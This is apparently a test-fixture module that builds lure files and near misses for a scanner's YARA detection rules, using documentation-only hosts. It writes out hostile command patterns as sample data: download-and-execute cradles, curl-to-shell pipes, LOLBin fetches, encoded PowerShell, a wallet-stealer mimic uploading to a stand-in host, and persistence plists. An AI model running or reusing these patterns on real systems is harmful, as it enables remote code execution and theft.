"""Benign positive samples and near misses for the bundled YARA rules (tests/test_rules.py).

Every sample is built here from plain text written for the test, or from the benign
executables in the shared corpus (tests/corpus/executables) renamed to a lure name.
Nothing here is, or is derived from, real malware: hosts are example.invalid or the
documentation range 192.0.2.0/24, and the "payloads" only print or echo harmless text.

``POSITIVE`` maps a rule name to samples that must make exactly that rule fire;
``NEAR_MISSES`` are look-alikes that no bundled rule may flag.
"""

from __future__ import annotations

import base64
import hashlib
import os
import struct
import zipfile
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[1]
RULES_DIR = REPO / "rules"
# The real-file corpus lives in the repository: tests/corpus (origins and licences in its MANIFEST.tsv).
CORPUS = Path(__file__).resolve().parent / "corpus"

# Every content type the scanner may put in the `filetype` external (LOKI/THOR style).
_FILETYPES = [
    "", "EXE", "ELF", "MACHO", "CLASS", "LNK", "URL", "DESKTOP", "SCF", "WEBLOC", "APPLESCRIPT",
    "MSI", "OLE", "JAR", "OOXML", "ODF", "ZIP", "7Z", "RAR", "CAB", "GZ", "BZ2", "XZ", "TAR",
    "ISO", "VHD", "DMG", "PDF", "RTF", "TEXT", "JS", "VBS", "PS1", "HTA", "BAT", "SH", "PY",
]
try:  # keep in step with the scanner's own table when it is importable
    from guard.identify.filetype import YARA_FILETYPE as _SCANNER_TYPES
    _FILETYPES += [t for t in dict.fromkeys(_SCANNER_TYPES.values()) if t not in _FILETYPES]
except Exception:  # pragma: no cover - the rules tests do not need the scanner
    pass
ALL_FILETYPES = tuple(_FILETYPES)


def corpus_file(rel: str) -> bytes:
    path = CORPUS / rel
    if not path.is_file():
        raise FileNotFoundError(f"test corpus file missing: {path}")
    return path.read_bytes()


def externals(name: str, data: bytes = b"", filetype: str = "") -> dict[str, str]:
    """The externals the scanner passes for a file called *name* (LOKI/THOR semantics)."""
    return {
        "filename": name,
        "filepath": f"/home/user/Downloads/{name}",
        "extension": os.path.splitext(name)[1].lower(),
        "filetype": filetype,
        "md5": hashlib.md5(data).hexdigest(),
        "owner": "user",
    }


@dataclass(frozen=True)
class Sample:
    name: str                       # file name passed as filename/extension externals
    build: Callable[[], bytes] = field(repr=False, compare=False)
    filetype: str = ""              # what a content sniffer would plausibly report
    note: str = ""

    def data(self) -> bytes:
        return self.build()


# --------------------------------------------------------------------------- builders

LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")


def lnk(target: str, arguments: str = "", *, unicode: bool = True) -> bytes:
    """A minimal MS-SHLLINK shortcut with RELATIVE_PATH and COMMAND_LINE_ARGUMENTS."""
    flags = 0x08 | 0x80 * unicode | (0x20 if arguments else 0)
    header = struct.pack(
        "<I16sIIqqqIiIHHII", 0x4C, LNK_CLSID, flags, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    assert len(header) == 0x4C

    def string_data(text: str) -> bytes:
        raw = text.encode("utf-16-le") if unicode else text.encode("cp1252")
        return struct.pack("<H", len(text)) + raw

    body = string_data(target)
    if arguments:
        body += string_data(arguments)
    return header + body + b"\0\0\0\0"


def text(s: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: s.encode(encoding)


def from_corpus(rel: str) -> Callable[[], bytes]:
    return lambda: corpus_file(rel)


def fat_macho() -> bytes:
    """A Mach-O universal header with two architectures (x86_64, arm64) and no code."""
    head = struct.pack(">II", 0xCAFEBABE, 2)
    head += struct.pack(">iiIII", 0x01000007, 3, 0x1000, 0x1000, 12)
    head += struct.pack(">iiIII", 0x0100000C, 0, 0x2000, 0x1000, 14)
    return head.ljust(0x3000, b"\0")


def iso_image(names: list[str]) -> bytes:
    """ISO 9660 primary volume descriptor plus directory-record style names."""
    img = bytearray(0x9000)
    img[0x8000:0x8007] = b"\x01CD001\x01"
    img[0x8008:0x8028] = b"LINUX".ljust(32)
    img[0x8028:0x8048] = b"GUARD_TEST".ljust(32)
    img[0x8800:0x8807] = b"\xffCD001\x01"
    off = 0x8A00
    for n in names:
        rec = n.upper().encode() + b";1"
        img[off:off + len(rec)] = rec
        off += 64
    return bytes(img)


def vhd_image(names: list[str], *, footer_at_end: bool) -> bytes:
    """Fixed/dynamic VHD style container holding NTFS-like UTF-16LE file names."""
    footer = b"conectix".ljust(512, b"\0")
    body = bytearray(0x4000)
    off = 0x1000
    for n in names:
        raw = n.encode("utf-16-le")
        body[off:off + len(raw)] = raw
        off += 0x100
    return bytes(body) + footer if footer_at_end else footer + bytes(body)


def ole_vba(*parts: bytes) -> bytes:
    """An OLE2 compound-file header followed by VBA-project-like content."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HH", 0x3E, 3)
    return header.ljust(512, b"\0") + b"\0".join(parts) + b"\0" * 64


def docm_as(name_in_zip_check: str = "word/vbaProject.bin") -> bytes:
    data = corpus_file("executables/office-macro/oleform-PR314.docm")
    with zipfile.ZipFile(BytesIO(data)) as zf:
        assert name_in_zip_check in zf.namelist()
    return data


def zip_with(members: dict[str, bytes]) -> bytes:
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, b in members.items():
            zf.writestr(n, b)
    return buf.getvalue()


def compiled_applescript(literal: str) -> bytes:
    """Shape of a compiled .scpt: FasdUAS magic and a UTF-16BE ('utxt') string literal."""
    return (b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff" + b"\0" * 40
            + b"utxt" + struct.pack(">I", len(literal) * 2) + literal.encode("utf-16-be")
            + b"\x00\x00" + b"\0" * 64)


def enc_command(ps: str) -> str:
    return base64.b64encode(ps.encode("utf-16-le")).decode()


PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PAD = "\n" * 10500

# --------------------------------------------------------------------------- positives

POSITIVE: dict[str, list[Sample]] = {
    # disguised_executables.yar
    "Disguised_PE_Document_Extension": [
        Sample("Contract.pdf", from_corpus("executables/pe/pe32.exe"), "EXE"),
        Sample("invoice.docx", from_corpus("executables/pe/pe64.exe"), "EXE"),
        Sample("holiday.JPG", from_corpus("executables/pe/cli-64.exe"), "EXE"),
    ],
    "Disguised_ELF_Document_Extension": [
        Sample("report.docx", from_corpus("executables/elf/elf.elf"), "ELF"),
        Sample("song.mp3", from_corpus("executables/elf/elf64.elf"), "ELF"),
    ],
    "Disguised_MachO_Document_Extension": [
        Sample("scan.jpg", from_corpus("executables/macho/_psutil_osx.abi3.so"), "MACHO"),
        Sample("Statement.pdf", fat_macho, "MACHO", "universal (fat) header"),
    ],
    "Executable_Filename_Extension_Spoofing": [
        Sample("Invoice.pdf.exe", from_corpus("executables/pe/pe32.exe"), "EXE"),
        Sample("Scan 2026.jpg      .scr", from_corpus("executables/pe/pe64.exe"), "EXE"),
        Sample("Invoice\u202efdp.exe", from_corpus("executables/pe/pe32.exe"), "EXE",
               "right-to-left override"),
    ],
    # shortcuts.yar
    "LNK_PowerShell_Hostile_Arguments": [
        Sample("Invoice.lnk", lambda: lnk(
            PS, "-nop -w hidden -enc " + enc_command("Write-Output 'guard test'")), "LNK"),
        Sample("Report.lnk", lambda: lnk(
            PS, "-w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                "'http://example.invalid/a.ps1')\""), "LNK"),
        Sample("Report-ansi.lnk", lambda: lnk(
            PS, "-windowstyle hidden -c iwr http://example.invalid/a.ps1 | iex",
            unicode=False), "LNK", "ANSI string data"),
    ],
    "LNK_LOLBin_Proxy_Execution": [
        Sample("Photos.lnk", lambda: lnk(
            r"C:\Windows\System32\cmd.exe",
            r"/c curl.exe -s http://example.invalid/a.txt -o %TEMP%\a.txt"), "LNK"),
        Sample("Setup.lnk", lambda: lnk(
            r"C:\Windows\System32\regsvr32.exe",
            "/s /n /u /i:http://example.invalid/file.sct scrobj.dll"), "LNK"),
    ],
    "LNK_Mshta_Remote_Script": [
        Sample("Meeting.lnk", lambda: lnk(
            r"C:\Windows\System32\mshta.exe", "http://example.invalid/page.hta"), "LNK"),
        Sample("Notice.lnk", lambda: lnk(
            r"C:\Windows\System32\mshta.exe",
            "vbscript:Execute(\"MsgBox \"\"guard test\"\":close\")"), "LNK"),
    ],
    "LNK_Document_Double_Extension": [
        Sample("Invoice.pdf.lnk", lambda: lnk(r"C:\Users\Public\Documents\doc.pdf"), "LNK"),
    ],
    "URL_Shortcut_Remote_File_Target": [
        Sample("report.url", text(
            "[InternetShortcut]\r\nURL=file://192.0.2.10/share/report.pdf\r\n"), "URL"),
        Sample("share.url", text(
            "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n"
            "[InternetShortcut]\r\nIDList=\r\nURL=\\\\192.0.2.10\\share\\notes.txt\r\n"), "URL"),
    ],
    "URL_Shortcut_Remote_Executable_Target": [
        Sample("Invoice.url", text(
            "[InternetShortcut]\r\n"
            "URL=file:\\\\192.0.2.10@8080\\DavWWWRoot\\files\\invoice.url\r\n"), "URL"),
        Sample("docs.url", text(
            "[InternetShortcut]\r\nURL=file://192.0.2.10/pub/readme.vbs\r\n"), "URL"),
    ],
    "URL_Shortcut_Remote_Icon_Forced_Auth": [
        Sample("Portal.url", text(
            "[InternetShortcut]\r\nURL=https://example.invalid/\r\n"
            "IconFile=\\\\192.0.2.10\\icons\\portal.ico\r\nIconIndex=1\r\n"), "URL"),
    ],
    "Desktop_Entry_Download_Execute": [
        Sample("Invoice.desktop", text(
            "[Desktop Entry]\nType=Application\nName=Invoice.pdf\n"
            "Exec=sh -c \"curl -fsSL https://example.invalid/x.sh | bash\"\n"), "DESKTOP"),
        Sample("Report.desktop", text(
            "[Desktop Entry]\nType=Application\nName=Report\nTerminal=false\n"
            "Exec=bash -c 'wget -q -O /tmp/.r http://example.invalid/r && chmod +x /tmp/.r "
            "&& /tmp/.r'\n"), "DESKTOP"),
    ],
    "Desktop_Entry_Remote_Share_Target": [
        Sample("Share.desktop", text(
            "[Desktop Entry]\nType=Link\nName=Team share\n"
            "URL=smb://192.0.2.10/share/report.pdf\n"), "DESKTOP"),
    ],
    # script_droppers.yar
    "WSH_Script_Download_Save_Execute": [
        Sample("invoice.js", text(
            'var x = new ActiveXObject("MSXML2.XMLHTTP");\n'
            'x.open("GET", "http://example.invalid/readme.txt", false); x.send();\n'
            'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1;\n'
            's.Write(x.responseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\readme.txt", 2);\n'
            'new ActiveXObject("WScript.Shell").Run("notepad C:\\\\Users\\\\Public\\\\readme.txt");\n'
        ), "JS"),
        Sample("invoice.vbs", text(
            'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\r\n'
            'h.Open "GET", "http://example.invalid/readme.txt", False : h.Send\r\n'
            'Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open\r\n'
            's.Write h.ResponseBody : s.SaveToFile "C:\\Users\\Public\\readme.txt", 2\r\n'
            'CreateObject("Shell.Application").ShellExecute "notepad.exe"\r\n',
            "utf-16-le"), "VBS", "UTF-16LE script"),
    ],
    "WSH_Script_Download_Eval": [
        Sample("update.vbs", text(
            'Set h = CreateObject("MSXML2.ServerXMLHTTP")\r\n'
            'h.Open "GET", "http://example.invalid/s.txt", False\r\nh.Send\r\n'
            'ExecuteGlobal h.responseText\r\n'), "VBS"),
        Sample("update.js", text(
            'var r = new ActiveXObject("Microsoft.XMLHTTP");\n'
            'r.open("GET", "http://example.invalid/s.js", false); r.send();\n'
            'eval(r.responseText);\n'), "JS"),
    ],
    "PowerShell_Download_Cradle_Invoke_Expression": [
        Sample("setup.ps1", text(
            "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\n"),
            "PS1"),
        Sample("install.ps1", text("irm https://example.invalid/a.ps1 | iex\r\n", "utf-16-le"),
               "PS1", "UTF-16LE script"),
    ],
    "PowerShell_Hidden_Encoded_Launch": [
        Sample("run.bat", text(
            "@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
            + enc_command("Write-Output 'guard test'") + "\r\n"), "BAT"),
    ],
    "Shell_Remote_Script_Piped_To_Interpreter": [
        Sample("install.sh", text(
            "#!/bin/sh\ncurl -fsSL https://example.invalid/i.sh | sudo bash\n"), "SH"),
        Sample("Update.command", text(
            "cd /tmp\nwget -qO- http://example.invalid/x.py | python3\n"), "SH",
            "no shebang, .command extension"),
    ],
    "Shell_Base64_Decoded_Payload_Executed": [
        Sample("fix.txt", text(
            "echo " + base64.b64encode(b"echo guard test").decode()
            + " | base64 -d | bash\n"), "TEXT"),
        Sample("verify.html", text(
            "<p>Press Cmd+Space, open Terminal and paste:</p><pre>/bin/zsh -c \"$(echo "
            + base64.b64encode(b"echo guard test").decode()
            + " | base64 --decode | zsh)\"</pre>"), "TEXT"),
    ],
    "Certutil_URLCache_Download": [
        Sample("get.bat", text(
            "certutil.exe -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.txt\r\n"),
            "BAT"),
        Sample("Docs.lnk", lambda: lnk(
            r"C:\Windows\System32\certutil.exe",
            r"-urlcache -f https://example.invalid/a.txt C:\Users\Public\a.txt"), "LNK"),
    ],
    "Bitsadmin_Transfer_Remote_Payload": [
        Sample("fetch.cmd", text(
            "bitsadmin /transfer job /download /priority high "
            "http://example.invalid/a.txt C:\\Users\\Public\\a.txt\r\n"), "BAT"),
        Sample("Sync.lnk", lambda: lnk(
            r"C:\Windows\System32\bitsadmin.exe",
            r"/transfer j /download https://example.invalid/a.txt C:\Users\Public\a.txt"),
            "LNK"),
    ],
    "Mshta_Remote_Or_Inline_Script": [
        Sample("open.bat", text('start "" mshta.exe "https://example.invalid/x.hta"\r\n'), "BAT"),
        Sample("notice.txt", text(
            'mshta vbscript:Execute("MsgBox ""guard test"":close")\n'), "TEXT"),
    ],
    "Batch_Curl_Download_Then_LOLBin_Execute": [
        Sample("update.bat", text(
            "@echo off\r\ncurl -s -o %TEMP%\\u.txt https://example.invalid/u.txt\r\n"
            "rundll32 shell32.dll,ShellExec_RunDLL notepad %TEMP%\\u.txt\r\n"), "BAT"),
        Sample("sync.cmd", text(
            "curl.exe https://example.invalid/p.hta --output %PUBLIC%\\p.hta\r\n"
            "mshta %PUBLIC%\\p.hta\r\n"), "BAT", "no @echo off, .cmd extension"),
    ],
    "HTA_Shell_Command_Execution": [
        Sample("viewer.hta", text(
            '<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize"/>\n'
            '<script language="VBScript">\nSet sh = CreateObject("WScript.Shell")\n'
            'sh.Run "notepad.exe", 0\nself.close\n</script></head></html>\n'), "HTA"),
    ],
    "Python_Exec_Encoded_Payload": [
        Sample("setup.py", text(
            "import base64\nexec(base64.b64decode('"
            + base64.b64encode(b"print('guard test')").decode() + "'))\n"), "PY"),
        Sample("helper.py", text(
            "import os\nexec(__import__('zlib').decompress(b'x'))\n"
            "exec( zlib.decompress(data) )\n"), "PY"),
    ],
    "AppleScript_Shell_Download_Execute": [
        Sample("Update.applescript", text(
            'do shell script "curl -fsSL https://example.invalid/s.sh | sh"\n'), "APPLESCRIPT"),
    ],
    # macro_autoexec.yar
    "Office_VBA_AutoExec_Shell_Command": [
        Sample("Invoice.doc", lambda: ole_vba(
            b"\x01\x1a\xb0\x00Attribut\x00e VB_Nam\x00e = \"Module1\"",
            b"AutoOpen", b"WScript.Shell", b"Run"), "OLE"),
        Sample("vbaProject.bin", lambda: ole_vba(
            b"Attribute VB_Name = \"ThisWorkbook\"", b"Workbook_Open", b"Shell"), "OLE",
            "archive member of an .xlsm"),
    ],
    "Office_VBA_AutoExec_Downloader": [
        Sample("Budget.xls", lambda: ole_vba(
            b"\x01\x1a\xb0\x00Attribut\x00e VB_Nam\x00e = \"Module1\"",
            b"Auto_Open", b"URLDownloadToFileA", b"urlmon"), "OLE"),
    ],
    "OOXML_VBA_Project_In_Macro_Free_Extension": [
        Sample("Q3 report.docx", docm_as, "OOXML", "a real .docm renamed to .docx"),
        Sample("budget.xlsx", lambda: zip_with({
            "[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "OOXML"),
    ],
    # bluenoroff_lazarus.yar
    "BlueNoroff_AppleScript_Blankline_Padded_Curl_Exec": [
        Sample("zoom_sdk_support.scpt", text(
            "-- Zoom SDK support tool\nopen location \"https://example.invalid/docs\"\n"
            + PAD + 'do shell script "curl -s https://example.invalid/troubleshoot | sh"\n'),
            "APPLESCRIPT"),
        Sample("helper.scpt", text(
            "-- audio fix\r" + "\r" * 4000
            + 'do shell script "curl -sL https://example.invalid/a -o /tmp/a; chmod +x /tmp/a"\r'),
            "APPLESCRIPT", "classic Mac CR line endings"),
    ],
    "BlueNoroff_GhostCall_Fake_Meeting_SDK_Update_Script": [
        Sample("Zoom SDK Update.scpt", text(
            "-- Zoom SDK Update: fixes the audio device error in this meeting\n"
            'set fix_url to "https://example.invalid/842/check"\n'
            'set sc to do shell script "curl -L -k \\"" & fix_url & "\\""\n'
            "run script sc\n"), "APPLESCRIPT"),
        Sample("Teams SDK Update.scpt", lambda: compiled_applescript(
            "Microsoft Teams SDK update: curl -fsSL https://example.invalid/t | zsh -s "),
            "APPLESCRIPT", "compiled script, UTF-16BE literal"),
    ],
    "SapphireSleet_Zoom_SDK_Update_Curl_Osascript_Chain": [
        Sample("Zoom SDK Update.scpt", text(
            "-- Zoom Meeting SDK upgrade\n" + PAD
            + 'do shell script "curl -s -A mac-cur1 '
              'https://example.invalid/fix/mac/update/version/1 | osascript"\n'),
            "APPLESCRIPT"),
        Sample("update.scpt", lambda: compiled_applescript(
            "curl -s -A mac-cur4 https://example.invalid/fix/mac/update/status/2 -o /tmp/u.zip"
            " && osascript /tmp/u.scpt "), "APPLESCRIPT", "compiled script"),
    ],
    "BlueNoroff_RustBucket_Internal_PDF_Viewer_Dropper": [
        Sample("main.scpt", text(
            'do shell script "curl -s https://example.invalid/p -o /Users/Shared/1.zip"\n'
            'do shell script "cd /Users/Shared; unzip -o 1.zip; rm -f 1.zip"\n'
            'do shell script "open -a \\"/Users/Shared/Internal PDF Viewer.app\\""\n'),
            "APPLESCRIPT"),
    ],
    "BlueNoroff_RustBucket_LaunchAgent_Persistence": [
        Sample("com.apple.systemupdate.plist", text(
            '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>\n'
            "<key>Label</key><string>com.apple.systemupdate</string>\n"
            "<key>ProgramArguments</key><array>"
            "<string>/Users/user/Library/Metadata/System Update</string></array>\n"
            "<key>RunAtLoad</key><true/></dict></plist>\n"), "TEXT"),
    ],
    "BlueNoroff_MotW_Bypass_Disk_Image_Script_Lure": [
        Sample("Proposal.iso", lambda: iso_image(["PROPOSAL.PPTX", "README.VBS"]), "ISO"),
        Sample("Contract.vhd", lambda: vhd_image(
            ["Contract.pdf", "Contract.lnk"], footer_at_end=True), "VHD"),
        Sample("Terms.vhd", lambda: vhd_image(
            ["Terms.docx", "open.bat"], footer_at_end=False), "VHD", "dynamic VHD footer copy"),
    ],
    "BlueNoroff_SyncAppvPublishingServer_PowerShell_Proxy": [
        Sample("Update.xml", text(
            '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions><Exec>'
            "<Command>wscript.exe</Command><Arguments>"
            "C:\\Windows\\System32\\SyncAppvPublishingServer.vbs &quot;n;"
            "Start-Process notepad&quot;</Arguments></Exec></Actions></Task>\r\n",
            "utf-16-le"), "TEXT", "scheduled task XML, UTF-16LE"),
        Sample("sync.bat", text(
            'wscript C:\\Windows\\System32\\SyncAppvPublishingServer.vbs '
            '"n;(New-Object Net.WebClient).DownloadString(\'http://example.invalid/a\')|'
            '&(gal i*x)"\r\n'), "BAT"),
    ],
    "Lazarus_KandyKorn_Python_Drive_Dropper": [
        Sample("Watcher.py", text(
            "import os\nimport sys\nimport urllib.request\nimport importlib\n\n"
            "out = '/Users/Shared/testSpeed.py'\n"
            "def import_networklib():\n"
            "    url = 'https://drive.google.com/uc?export=download&id=EXAMPLE'\n"
            "    data = urllib.request.urlopen(url).read()\n"
            "    with open(out, 'wb') as f:\n        f.write(data)\n"
            "    importlib.import_module('testSpeed')\n    os.remove(out)\n"), "PY"),
    ],
    "Lazarus_BeaverTail_JS_Wallet_Stealer": [
        Sample("config.js", text(
            "const fs = require('fs'), os = require('os'), path = require('path');\n"
            "const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa',"
            " 'hnfanknocfeofbddgcijnmhnfnkdnaad'];\n"
            "const base = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/"
            "Default/Local Extension Settings');\n"
            "const extra = [path.join(os.homedir(), '.config/solana/id.json')];\n"
            "function send(files) { return post('http://192.0.2.10:1224/uploads', files); }\n"),
            "JS"),
    ],
    "Lazarus_InvisibleFerret_Python_Backdoor": [
        Sample("pay.py", text(
            "import os, sys, socket, subprocess\nimport pyperclip\n\n"
            "class Shell:\n"
            "    def ssh_cmd(self, args): return subprocess.getoutput(args)\n"
            "    def ssh_clip(self, args): return pyperclip.paste()\n"
            "    def ssh_upload(self, args): return None\n"
            "    def ssh_kill(self, args):\n"
            "        os.system('killall \"Google Chrome\"')\n"
            "    handlers = {'1': ssh_cmd, '3': ssh_clip, '4': ssh_upload, '5': ssh_kill}\n"),
            "PY"),
    ],
}

# --------------------------------------------------------------------------- near misses

NEAR_MISSES: list[Sample] = [
    Sample("pe32.exe", from_corpus("executables/pe/pe32.exe"), "EXE", "PE, honest name"),
    Sample("setup.msi.exe", from_corpus("executables/pe/w64.exe"), "EXE",
           "executable extension twice is not a document lure"),
    Sample("Contract.pdf", from_corpus("executables/other/java.class"), "CLASS",
           "CAFEBABE Java class, not a universal binary"),
    Sample("notes.txt", text("MZ is the two-letter code we use for the Mainz office.\n"), "TEXT",
           "MZ without a PE header"),
    Sample("libfoo.so", from_corpus("executables/elf/_psutil_linux.abi3.so"), "ELF"),
    Sample("Windows PowerShell.lnk", lambda: lnk(PS), "LNK", "plain PowerShell shortcut"),
    Sample("PowerShell 7.lnk", lambda: lnk(
        r"C:\Program Files\PowerShell\7\pwsh.exe", "-WorkingDirectory ~"), "LNK"),
    Sample("Command Prompt.lnk", lambda: lnk(
        r"C:\Windows\System32\cmd.exe", r"/k cd /d %USERPROFILE%"), "LNK"),
    Sample("Report.pdf - Shortcut.lnk", lambda: lnk(r"C:\Users\Public\Report.pdf"), "LNK"),
    Sample("sample.lnk", from_corpus("executables/lnk/sample.lnk"), "LNK"),
    Sample("Example.url", text("[InternetShortcut]\r\nURL=https://example.com/\r\n"), "URL"),
    Sample("firefox.desktop", text(
        "[Desktop Entry]\nType=Application\nName=Firefox\nExec=firefox %u\n"
        "Icon=firefox\n"), "DESKTOP"),
    Sample("INSTALL.md", text(
        "Install with:\n\n    curl -fsSL https://example.invalid/install.sh | sh\n"), "TEXT",
        "curl | sh in documentation, not in a script"),
    Sample("fetch.sh", text(
        "#!/bin/sh\nset -e\ncurl -fsSL -o /tmp/data.json https://example.invalid/data.json\n"),
        "SH", "download without execution"),
    Sample("get.ps1", text(
        "Invoke-WebRequest -Uri https://example.invalid/a.zip -OutFile a.zip\n"), "PS1"),
    Sample("app.js", text(
        "const r = new XMLHttpRequest(); r.open('GET', '/api'); r.send();\n"), "JS"),
    Sample("run.py", text(
        "import runpy\nexec(compile(open('x.py').read(), 'x.py', 'exec'))\n"), "PY"),
    Sample("padded.scpt", text("-- notes\n" + PAD + 'do shell script "ls -la"\n'),
           "APPLESCRIPT", "padding without a download"),
    Sample("harmless-clean.docm", from_corpus("benign/docm/harmless-clean.docm"), "OOXML"),
    Sample("oleform-PR314.docm", from_corpus("executables/office-macro/oleform-PR314.docm"),
           "OOXML", "VBA project under its honest macro-enabled extension"),
    Sample("lolbas-notes.md", text(
        "# Hardening notes\n\ncertutil can also fetch files with -urlcache, so block it.\n"
        "bitsadmin /transfer is deprecated too.\n\nSee https://example.invalid/lolbas\n"),
        "TEXT", "tools named in prose, URL on another line"),
    Sample("manual.txt", text(
        "Open the file with the internal PDF viewer of your browser.\n"), "TEXT"),
]
